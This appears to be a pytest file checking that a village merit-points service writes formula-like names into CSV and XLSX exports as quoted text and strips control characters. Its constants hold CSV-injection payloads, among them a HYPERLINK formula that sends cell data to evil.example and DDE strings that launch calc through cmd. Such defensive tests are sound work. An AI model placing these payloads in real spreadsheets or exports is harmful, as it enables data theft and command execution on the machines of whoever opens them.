"""Every CSV and XLSX the service writes keeps names as text (never a formula) and opens whatever is stored.

Exports are fetched as the township officials fetch them and parsed with the csv module and openpyxl;
the raw XLSX XML is also searched, since a formula is an `<f>` element whatever a reader makes of it.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook
from sqlalchemy import text

from merit_bank.clock import local_zone
from merit_bank.extensions import db
from merit_bank.reports.exports import EXPORTS
from tests.factories import auth, make_household, root_admin
from tests.shop.shop_helpers import award, build_world, redeem

# OWASP: a cell beginning with one of these is read as a formula by Excel, WPS or LibreOffice.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"领取")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
NASTY = (HYPERLINK, CALC, PLUS, AT, MINUS, TAB, CR)


def _month() -> str:
    return datetime.now(UTC).astimezone(local_zone()).strftime("%Y-%m")


def _world(app, client):
    """A shop, an item, a household, members, a group and memos whose names are formulas; points moved."""
    world = build_world(
        app, households=0, points=0, goods=[(CALC, PLUS, 10, 50, None), ("大米", "袋", 30, 40, None)]
    )
    root = root_admin(app)
    household = make_household(
        app,
        world.village_id,
        head_name=HYPERLINK,
        members=[{"name": HYPERLINK, "relation": "户主"}, {"name": AT, "relation": "配偶"}],
        group="一组",
    )
    award(app, world.village_id, household["id"], 500)
    with app.app_context():
        # Services strip surrounding blanks and the API refuses a carriage return in a name; stored anyway.
        db.session.execute(text("UPDATE shops SET name = :n WHERE id = :id"), {"n": AT, "id": world.shop_id})
        db.session.execute(
            text("UPDATE shop_items SET name = :n WHERE id = :id"), {"n": TAB, "id": world.items["大米"]}
        )
        db.session.execute(
            text("UPDATE village_groups SET name = :n WHERE village_id = :v AND name = :old"),
            {"n": CR, "v": world.village_id, "old": "一组"},
        )
        db.session.commit()
    body = {
        "shop_id": world.shop_id,
        "household_id": household["id"],
        "lines": [
            {"item_id": world.items[CALC], "quantity": 2},
            {"item_id": world.items["大米"], "quantity": 1},
        ],
    }
    assert redeem(client, world.keeper, body).status_code == 201
    adjustment = client.post(
        "/api/v1/ledger/adjustments",
        json={"village_id": world.village_id, "household_id": household["id"], "points": -7, "memo": MINUS},
        headers={**auth(app, root), "Idempotency-Key": "neutralise-1"},
    )
    assert adjustment.status_code == 201, adjustment.get_json()
    return world, household, root


def _downloads(app, client, world, root) -> dict[str, bytes]:
    """Every CSV and XLSX download of the village, by URL."""
    headers = auth(app, root)
    urls = [
        f"/api/v1/exports/{name}.{fmt}?village_id={world.village_id}"
        for name in sorted(EXPORTS)
        for fmt in ("csv", "xlsx")
    ]
    urls += [
        f"/api/v1/shops/{world.shop_id}/settlement.csv?month={_month()}",
        f"/api/v1/shops/{world.shop_id}/settlement.xlsx?month={_month()}",
        f"/api/v1/ledger/export?village_id={world.village_id}&format=csv",
        "/api/v1/households/import/template.xlsx",
    ]
    out = {}
    for url in urls:
        response = client.get(url, headers=headers)
        assert response.status_code == 200, (url, response.get_data(as_text=True)[:300])
        out[url] = response.get_data()
    return out


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_xml(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _is_plain_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return value.lstrip("-").replace(".", "", 1).isdigit()


def test_formula_like_names_are_quoted_text_in_every_csv_and_xlsx_export_and_numbers_stay_numbers(
    app, client
):
    world, _household, root = _world(app, client)
    downloads = _downloads(app, client, world, root)
    seen: set[str] = set()
    negative_number_cells = 0
    for url, data in downloads.items():
        if ".xlsx" in url:
            _no_formula_xml(data)
            for cell in _xlsx_cells(data):
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (url, cell.coordinate, cell.value)
                    seen.update(n for n in NASTY if cell.value == "'" + n)
                    assert cell.data_type == "s"
                elif isinstance(cell.value, int | float) and cell.value < 0:
                    negative_number_cells += 1
        else:
            body = data.decode("utf-8-sig")
            for row in csv.reader(io.StringIO(body)):
                for value in row:
                    if value.startswith(FORMULA_TRIGGERS):
                        assert _is_plain_number(value), (url, value)
                        negative_number_cells += 1
                    seen.update(n for n in NASTY if value == "'" + n)
    # Each kind of name reached some export, quoted; the -7 adjustment stayed a number somewhere.
    assert seen == set(NASTY)
    assert negative_number_cells > 0


def test_exports_stay_valid_files_when_stored_text_holds_control_characters(app, client):
    world = build_world(app, households=1, points=100)
    household = world.households[0]
    root = root_admin(app)
    # Stored before input was checked (straight into the database, bypassing validation). PostgreSQL
    # cannot hold NUL at all; SQLite can, so it gets one too.
    name = "Wang\u0001\u001f" + (
        "\u0000" if app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite") else ""
    )
    with app.app_context():
        db.session.execute(
            text("UPDATE households SET head_name = :n WHERE id = :id"), {"n": name, "id": household["id"]}
        )
        db.session.execute(
            text("UPDATE shops SET name = :n WHERE id = :id"), {"n": "超市\u0008", "id": world.shop_id}
        )
        db.session.execute(text("UPDATE shop_items SET name = name || :n"), {"n": "\u000b"})
        db.session.commit()
    lines = [{"item_id": world.items["大米"], "quantity": 1}]
    body = {"shop_id": world.shop_id, "household_id": household["id"], "lines": lines}
    assert redeem(client, world.keeper, body).status_code == 201
    downloads = _downloads(app, client, world, root)
    for url, data in downloads.items():
        if ".xlsx" in url:
            values = [c.value for c in _xlsx_cells(data) if isinstance(c.value, str)]
            assert not any(ch in v for v in values for ch in "\u0000\u0001\u0008\u000b\u001f"), url
        else:
            assert "Wang\u0001" not in data.decode("utf-8-sig"), url
    balances = downloads[f"/api/v1/exports/balances.xlsx?village_id={world.village_id}"]
    assert any(
        isinstance(c.value, str) and c.value.startswith("Wang\ufffd\ufffd") for c in _xlsx_cells(balances)
    )
